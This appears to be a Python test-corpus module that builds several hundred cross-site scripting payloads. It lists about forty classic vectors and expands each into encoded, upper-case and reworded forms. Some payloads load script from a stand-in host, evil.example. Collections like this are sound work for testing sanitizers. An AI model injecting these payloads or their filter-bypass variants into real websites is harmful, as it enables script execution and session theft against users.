"""A few hundred XSS payloads: well-known vectors, in the forms attackers send them
(plain, upper-case, entity-encoded, URL-encoded, broken markup, inside attributes)."""

from html import escape
from urllib.parse import quote

BASE = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<svg onload="alert(1)">',
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<body onload="alert(1)">',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<input autofocus onfocus="alert(1)">',
    '<details open ontoggle="alert(1)">',
    '<video><source onerror="alert(1)"></video>',
    '<audio src=x onerror="alert(1)">',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="import" href="//evil.example">',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    '<img """><script>alert(1)</script>">',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    '<a href=" javascript:alert(1)">x</a>',
    "<style>@import 'javascript:alert(1)';</style>",
    '<base href="javascript:alert(1)//">',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<table background="javascript:alert(1)">',
    "javascript:alert(1)",
    "{{7*7}}<%= 7*7 %>${alert(1)}",
]


def variants(payload):
    yield payload
    yield payload.upper()
    yield escape(payload)
    yield quote(payload)
    yield payload.replace("alert", "confirm")
    yield f"before {payload} after"
    yield payload.replace(">", " >")


PAYLOADS = sorted({v for p in BASE for v in variants(p)})
